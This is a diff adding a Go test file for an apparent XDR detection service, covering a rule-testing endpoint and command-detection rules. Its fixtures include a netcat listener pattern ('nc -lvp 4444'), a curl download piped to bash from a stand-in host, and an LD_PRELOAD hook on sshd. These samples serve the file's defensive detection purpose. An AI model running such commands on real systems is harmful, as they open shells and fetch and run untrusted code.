@@ -0,0 +1,61 @@
+package main
+
+import (
+	"encoding/json"
+	"io"
+	"log/slog"
+	"net/http"
+	"net/http/httptest"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+)
+
+func TestRulesTestEndpoint(t *testing.T) {
+	s := newServer(slog.New(slog.NewTextHandler(io.Discard, nil)))
+	body := `{
+		"rules": [
+			{"id": "nc", "name": "Netcat listener", "event_type": "PROCESS_START", "contains": "nc -l", "severity": "medium"},
+			{"id": "bad", "name": "No severity", "event_type": "PROCESS_START"}
+		],
+		"alerts": [
+			{"id": "a1", "agent_id": "web-1", "event_type": "PROCESS_START", "details": "nc -lvp 4444"},
+			{"agent_id": "web-1", "event_type": "PROCESS_START", "details": "nc -l 8080"},
+			{"id": "a3", "agent_id": "web-1", "event_type": "PROCESS_START", "details": "ls"}
+		]
+	}`
+	rr := httptest.NewRecorder()
+	s.routes().ServeHTTP(rr, httptest.NewRequest("POST", "/rules/test", strings.NewReader(body)))
+	if rr.Code != http.StatusOK {
+		t.Fatalf("POST /rules/test = %d: %s", rr.Code, rr.Body)
+	}
+	var got []ruleTestResult
+	json.NewDecoder(rr.Body).Decode(&got)
+	if len(got) != 2 || !slices.Equal(got[0].Matches, []string{"a1", "#1"}) || got[1].Error == "" {
+		t.Errorf("results = %+v", got)
+	}
+	if len(s.detector.list("")) != len(defaultRules) {
+		t.Error("testing rules changed the live rule set")
+	}
+}
+
+func TestCommandRules(t *testing.T) {
+	d := newDetector(defaultRules)
+	tests := []struct {
+		details string
+		want    []string
+	}{
+		{"download piped to a shell: curl -s https://x.example/i.sh | bash", []string{"xdr-008"}},
+		{"LD_PRELOAD=/tmp/hook.so: sshd -D", []string{"xdr-009"}},
+	}
+	for _, tt := range tests {
+		var got []string
+		for _, det := range d.detect(Alert{AgentID: "web-1", EventType: "SUSPICIOUS_COMMAND", Details: tt.details}, time.Now()) {
+			got = append(got, det.RuleID)
+		}
+		if !slices.Equal(got, tt.want) {
+			t.Errorf("%q fired %v; want %v", tt.details, got, tt.want)
+		}
+	}
+}